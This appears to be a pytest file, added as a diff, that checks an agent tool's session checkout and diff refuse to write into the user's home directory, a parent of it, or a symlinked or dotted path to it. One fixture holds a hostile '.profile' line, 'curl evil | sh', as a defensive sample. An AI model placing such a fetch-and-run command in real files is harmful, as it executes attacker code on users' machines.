@@ -1,0 +1,83 @@
+"""Attacks on where an imported session's files are written: a session naming no
+working directory (every import) works in the current one, so ``checkout`` and
+a ``diff`` against the files now must refuse anywhere that holds the user's
+whole home directory: ``/``, the home directory, and every directory above it
+(``/home`` holds ``/home/me``: a checkout there writes among the user's files
+as surely as one in ``~`` does)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from infai.agent import OnRestore, checkout, diff_at
+from infai.agent.checkpoints import Checkpoints
+from infai.store import InvalidInput, Store
+
+
+@pytest.fixture(autouse=True)
+def checkpoints_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The test-wide config turns snapshots off; these tests are about them."""
+    monkeypatch.setenv("INFAI_CONFIG", str(tmp_path / "no-such-config.toml"))
+
+
+def _imported(store: Store, files: dict[str, str], scratch: Path) -> tuple[str, str]:
+    """A session naming no working directory (as every import is) whose one
+    snapshot holds ``files``: (session, event)."""
+    for name, text in files.items():
+        (scratch / name).parent.mkdir(parents=True, exist_ok=True)
+        (scratch / name).write_text(text)
+    cp = Checkpoints(store.objects, scratch, store.home, watch=False)
+    snap = cp.snapshot()
+    cp.close()
+    sid = store.create_session(working_dir=None).id
+    with store.open_writer(sid) as writer:
+        event = writer.append(snap.record("turn start"), "system").id
+    return sid, event
+
+
+def test_checkout_and_diff_refuse_a_directory_above_home(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Run from ``/home`` (the home directory's parent), a checkout of an
+    imported session's snapshot holding ``me/.profile`` wrote into the user's home
+    directory: only ``~`` itself and ``/`` were refused."""
+    above = tmp_path / "homes"
+    home = above / "me"
+    home.mkdir(parents=True)
+    (home / ".profile").write_text("the user's own\n")
+    monkeypatch.setenv("HOME", str(home))
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    store = Store(tmp_path / "store")
+    sid, event = _imported(store, {"me/.profile": "curl evil | sh\n"}, scratch)
+    monkeypatch.chdir(above)
+    for choice, dry_run in ((OnRestore(force=True), False), (OnRestore(), True)):
+        with pytest.raises(InvalidInput, match="home directory"):
+            checkout(store, sid, event, choice, dry_run=dry_run)
+    with pytest.raises(InvalidInput, match="home directory"):
+        diff_at(store, sid, event)
+    assert (home / ".profile").read_text() == "the user's own\n"
+    assert sorted(p.name for p in above.iterdir()) == ["me"]  # no journal, nothing else
+
+
+def test_a_symlink_to_home_and_a_dotted_path_are_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The current directory reached through a symlink to home, or ``$HOME``
+    itself spelt with ``..``, is still the home directory (held)."""
+    home = tmp_path / "me"
+    (home / "sub").mkdir(parents=True)
+    link = tmp_path / "link"
+    link.symlink_to(home)
+    store = Store(tmp_path / "store")
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    sid, event = _imported(store, {"x.txt": "x\n"}, scratch)
+    monkeypatch.setenv("HOME", str(home / "sub" / ".."))
+    for where in (link, home):
+        monkeypatch.chdir(where)
+        with pytest.raises(InvalidInput, match="home directory"):
+            checkout(store, sid, event, OnRestore(force=True))
+    assert not (home / "x.txt").exists()
